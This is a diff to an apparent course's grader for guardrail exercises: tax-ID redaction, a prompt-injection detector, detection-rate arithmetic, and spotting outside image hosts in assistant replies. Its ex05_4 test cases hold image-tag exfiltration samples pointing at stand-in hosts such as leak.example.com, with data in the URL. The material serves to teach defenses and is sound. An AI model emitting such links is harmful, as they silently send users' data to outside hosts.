@@ -23,16 +23,58 @@ __all__ = [
 ]
 
 #: ex05_1: (text, the text with every *valid* German tax id replaced by "[TAX_ID]").
-#: The ids were made with their check digit; "12345678901" fails the checksum, and the phone
-#: number and the order number are not tax ids.
+#: The ids were made with their check digit. "37267057919" has the form of a tax id but a wrong
+#: check digit; "12345678901" is not a possible tax id at all (format rule: among the first ten
+#: digits one digit must appear twice or three times); the phone number and the order number
+#: are not tax ids.
 EX05_1_CASES: list[tuple[str, str]] = [
     ("My tax id is 37267057918.", "My tax id is [TAX_ID]."),
     ("Steuer-ID: 41 836 525 055, bitte speichern.", "Steuer-ID: [TAX_ID], bitte speichern."),
     ("IdNr 90123784646 und 76504582151", "IdNr [TAX_ID] und [TAX_ID]"),
+    ("Meine IdNr ist 37267057919, glaube ich.", "Meine IdNr ist 37267057919, glaube ich."),
     ("Is 12345678901 my tax id?", "Is 12345678901 my tax id?"),
     ("Call me on 08912345678.", "Call me on 08912345678."),
     ("Order IC-100042, 3 items, 2499 EUR.", "Order IC-100042, 3 items, 2499 EUR."),
 ]
+
+#: The numbers in EX05_1_CASES as written, and the hint for the learner who handles one wrongly:
+#: ``None`` for valid ids (which must go), a reason for the numbers that must stay.
+_EX05_1_KEEP_WHY: dict[str, str | None] = {
+    "37267057918": None,
+    "41 836 525 055": None,
+    "90123784646": None,
+    "76504582151": None,
+    "37267057919": (
+        "37267057919 has the form of a tax id, but its checksum fails (the last digit is "
+        "wrong): keep it; `idnr.is_valid(digits)` checks it"
+    ),
+    "12345678901": (
+        "12345678901 is not a possible tax id (format rule: among the first ten digits one "
+        "digit appears twice or three times): keep it; `idnr.is_valid(digits)` checks the "
+        "format as well as the check digit"
+    ),
+    "08912345678": "a tax id never starts with 0; a phone number often does: keep it",
+}
+
+
+def _tax_id_hint(text: str, result: str) -> str:
+    """The hint for the first number in ``text`` that ``result`` handled wrongly."""
+    for number, keep_why in _EX05_1_KEEP_WHY.items():
+        if number not in text:
+            continue
+        if keep_why is None and number in result:
+            if " " in number:
+                return "allow a space between the groups: 2 digits, then 3 groups of 3"
+            if result == text:
+                return (
+                    "nothing was replaced: find candidates with the pattern, and replace each "
+                    "valid id with [TAX_ID] (`PATTERN.sub(replace, text)`)"
+                )
+            return f"{number} is a valid tax id and was not replaced: replace it with [TAX_ID]"
+        if keep_why is not None and number not in result:
+            return keep_why
+    return "replace each valid 11-digit id with exactly [TAX_ID] and keep all other text"
+
 
 #: ex05_2: attacks the rule must catch (none of them is in the course's red-team set) …
 EX05_2_ATTACKS: list[str] = [
@@ -53,7 +95,9 @@ EX05_2_HARMLESS: list[str] = [
     "The rules for leasing through my employer are unclear to me.",
 ]
 
-#: ex05_3: the labels of 10 cases and a detector's decisions on them.
+#: ex05_3: the labels of 10 cases and a detector's decisions on them: 6 attacks, 4 of them
+#: blocked; 4 harmless cases, 1 of them blocked. The counts differ on purpose, so that each
+#: wrong denominator (all cases, all blocked cases) gives a different number from the right one.
 EX05_3_EXPECTED: list[str] = [
     "block",
     "block",
@@ -63,10 +107,17 @@ EX05_3_EXPECTED: list[str] = [
     "allow",
     "block",
     "allow",
-    "allow",
+    "block",
     "allow",
 ]
 EX05_3_BLOCKED: list[bool] = [True, True, False, True, False, True, True, False, False, False]
+
+#: A second set, so that typed-in numbers do not pass: 3 attacks, all blocked; 5 harmless, 2
+#: blocked.
+_EX05_3_SECOND: tuple[list[str], list[bool]] = (
+    ["allow", "block", "allow", "allow", "block", "allow", "block", "allow"],
+    [True, True, False, False, True, True, True, False],
+)
 
 
 def ex05_1(redact_tax_ids: Callable[..., Any]) -> bool:
@@ -88,19 +139,15 @@ def ex05_1(redact_tax_ids: Callable[..., Any]) -> bool:
             )
         if result == expected:
             continue
-        if "12345678901" in text:
-            hint = "this 11-digit number fails the checksum: keep it; use `idnr.is_valid(digits)`"
-        elif "0891" in text:
-            hint = "a tax id never starts with 0; a phone number often does"
-        elif " " in text.split(":")[-1][:16]:
-            hint = "allow a space between the groups: 2 digits, then 3 groups of 3"
-        else:
-            hint = "replace each valid 11-digit id with exactly [TAX_ID] and keep all other text"
-        return not_yet(label, f"for {text!r} expected {expected!r}, got {result!r:.100}", hint)
+        return not_yet(
+            label,
+            f"for {text!r} expected {expected!r}, got {result!r:.100}",
+            _tax_id_hint(text, result),
+        )
     return passed(
         label,
-        f"all {len(EX05_1_CASES)} cases right: valid ids redacted, the bad checksum, the phone "
-        "number and the order kept.",
+        f"all {len(EX05_1_CASES)} cases right: valid ids redacted; the wrong check digit, the "
+        "impossible number, the phone number and the order kept.",
     )
 
 
@@ -140,52 +187,117 @@ def ex05_2(is_injection: Callable[..., Any]) -> bool:
     )
 
 
-def ex05_3(rates: Callable[..., Any]) -> bool:
-    """Check ``rates(expected, blocked) -> (block_rate, false_positive_rate)``."""
-    label = "ex05_3"
-    truth = guardrails.detection_rates(EX05_3_EXPECTED, EX05_3_BLOCKED)
-    ok, result = call_learner_code(label, rates, list(EX05_3_EXPECTED), list(EX05_3_BLOCKED))
-    if not ok:
-        return False
-    if result is None:
-        return not_yet(
-            label, "rates(...) returned None", "end with `return block_rate, false_positive_rate`"
-        )
-    try:
-        block_rate, false_positive_rate = (float(x) for x in result)
-    except (TypeError, ValueError):
-        return not_yet(
-            label,
-            f"rates(...) returned {result!r:.80}, not two numbers",
-            "return a pair: `return block_rate, false_positive_rate`",
-        )
-    if not math.isclose(block_rate, truth.block_rate):
-        if math.isclose(block_rate, 4):
-            hint = f"you returned the count; divide by the number of attacks ({truth.attacks})"
-        elif math.isclose(block_rate, 5 / 10):
-            hint = "divide by the number of attacks (expected == 'block'), not by all cases"
-        else:
-            hint = "block rate = attacks blocked / all attacks (cases whose label is 'block')"
-        return not_yet(
-            label, f"block rate should be {truth.block_rate:.2f}, got {block_rate:.4g}", hint
-        )
-    if not math.isclose(false_positive_rate, truth.false_positive_rate):
-        if math.isclose(false_positive_rate, 1 - truth.false_positive_rate):
-            hint = "you counted the harmless cases let through; count the ones *blocked*"
-        else:
-            hint = (
-                "false-positive rate = harmless cases blocked / all harmless cases (label 'allow')"
+def _rate_slip(got: float, expected: list[str], blocked: list[bool], *, of: str) -> str | None:
+    """Name the wrong denominator (or numerator) behind a wrong rate, if the number shows it.
+
+    ``of`` is ``"attacks"`` (the block rate) or ``"harmless cases"`` (the false-positive rate).
+    """
+    pairs = list(zip(expected, blocked, strict=True))
+    label = "block" if of == "attacks" else "allow"
+    group = sum(e == label for e, _ in pairs)
+    hits = sum(b for e, b in pairs if e == label)
+    all_blocked = sum(b for _, b in pairs)
+    slips = [
+        (hits, f"you returned the count; divide by the number of {of} ({group})"),
+        (hits / len(pairs), f"divide by the number of {of}, not by all {len(pairs)} cases"),
+        (1 - hits / group, f"you counted the {of} let through; count the ones *blocked*"),
+    ]
+    if all_blocked and of == "attacks":
+        slips.append(
+            (
+                hits / all_blocked,
+                f"that is attacks blocked / all blocked cases ({all_blocked}): how many blocked "
+                f"cases were attacks (precision); the block rate divides by all attacks ({group})",
             )
-        return not_yet(
-            label,
-            f"false-positive rate should be {truth.false_positive_rate:.2f}, "
-            f"got {false_positive_rate:.4g}",
-            hint,
         )
+    elif all_blocked:
+        slips.append(
+            (
+                hits / all_blocked,
+                f"that divides by all blocked cases ({all_blocked}); the false-positive rate "
+                f"divides by all harmless cases ({group})",
+            )
+        )
+    if of == "attacks":
+        right = sum(b == (e == "block") for e, b in pairs)
+        slips += [
+            (
+                all_blocked / len(pairs),
+                "that is the share of all cases blocked; count only the attacks (label 'block')",
+            ),
+            (
+                right / len(pairs),
+                "that is the share of right decisions (accuracy); the block rate looks at the "
+                "attacks only",
+            ),
+        ]
+    for wrong, hint in slips:
+        if math.isclose(got, wrong):
+            return hint
+    return None
+
+
+def ex05_3(rates: Callable[..., Any]) -> bool:
+    """Check ``rates(expected, blocked) -> (block_rate, false_positive_rate)`` on the table
+    shown in the exercise and on a second one."""
+    label = "ex05_3"
+    for expected, blocked in ((EX05_3_EXPECTED, EX05_3_BLOCKED), _EX05_3_SECOND):
+        truth = guardrails.detection_rates(expected, blocked)
+        ok, result = call_learner_code(label, rates, list(expected), list(blocked))
+        if not ok:
+            return False
+        if result is None:
+            return not_yet(
+                label,
+                "rates(...) returned None",
+                "end with `return block_rate, false_positive_rate`",
+            )
+        try:
+            block_rate, false_positive_rate = (float(x) for x in result)
+        except (TypeError, ValueError):
+            return not_yet(
+                label,
+                f"rates(...) returned {result!r:.80}, not two numbers",
+                "return a pair: `return block_rate, false_positive_rate`",
+            )
+        where = "the table above" if expected is EX05_3_EXPECTED else "a second table"
+        swapped = math.isclose(block_rate, truth.false_positive_rate) and math.isclose(
+            false_positive_rate, truth.block_rate
+        )
+        if swapped and not math.isclose(truth.block_rate, truth.false_positive_rate):
+            return not_yet(
+                label,
+                f"on {where} you returned ({block_rate:.4g}, {false_positive_rate:.4g})",
+                "the order is (block_rate, false_positive_rate): swap the two",
+            )
+        if not math.isclose(block_rate, truth.block_rate):
+            hint = _rate_slip(block_rate, expected, blocked, of="attacks") or (
+                "block rate = attacks blocked / all attacks (cases whose label is 'block'); "
+                "compute it from the lists, don't type it in"
+            )
+            return not_yet(
+                label,
+                f"on {where} ({truth.attacks} attacks) the block rate should be "
+                f"{truth.block_rate:.4g}, got {block_rate:.4g}",
+                hint,
+            )
+        if not math.isclose(false_positive_rate, truth.false_positive_rate):
+            hint = _rate_slip(false_positive_rate, expected, blocked, of="harmless cases") or (
+                "false-positive rate = harmless cases blocked / all harmless cases (label "
+                "'allow'); compute it from the lists, don't type it in"
+            )
+            return not_yet(
+                label,
+                f"on {where} ({truth.harmless} harmless cases) the false-positive rate should "
+                f"be {truth.false_positive_rate:.4g}, got {false_positive_rate:.4g}",
+                hint,
+            )
+    truth = guardrails.detection_rates(EX05_3_EXPECTED, EX05_3_BLOCKED)
     return passed(
         label,
         f"block rate {truth.block_rate:.2f} ({truth.attacks} attacks), false-positive rate "
-        f"{truth.false_positive_rate:.2f} ({truth.harmless} harmless cases).",
+        f"{truth.false_positive_rate:.2f} ({truth.harmless} harmless cases), and right on a "
+        "second table too.",
     )
 
 
@@ -198,6 +310,7 @@ EX05_4_CASES: list[tuple[str, list[str]]] = [
     ("Done! ![s](https://collect.example/p.png?d=IC-100042)", ["collect.example"]),
     ('Thanks <img src="https://leak.example.com/x.png?c=IBAN"> for waiting', ["leak.example.com"]),
     ("![a](https://isar-cycles.example.evil.net/p.png)", ["isar-cycles.example.evil.net"]),
+    ("![x](https://evilisar-cycles.example/p.png)", ["evilisar-cycles.example"]),
     ("Track it on [the carrier's page](https://carrier.example/track).", []),
 ]
 
@@ -226,6 +339,11 @@ def ex05_4(outside_images: Callable[..., Any]) -> bool:
             hint = (
                 "'isar-cycles.example' *inside* a host name proves nothing: the host must be "
                 "isar-cycles.example itself or end with '.isar-cycles.example'"
+            )
+        elif "evilisar" in reply:
+            hint = (
+                "'evilisar-cycles.example' ends with 'isar-cycles.example' but is someone else's "
+                "domain: compare with the dot, host.endswith('.isar-cycles.example')"
             )
         elif "cdn.isar-cycles" in reply:
             hint = "subdomains of the company's domain are the company's too"
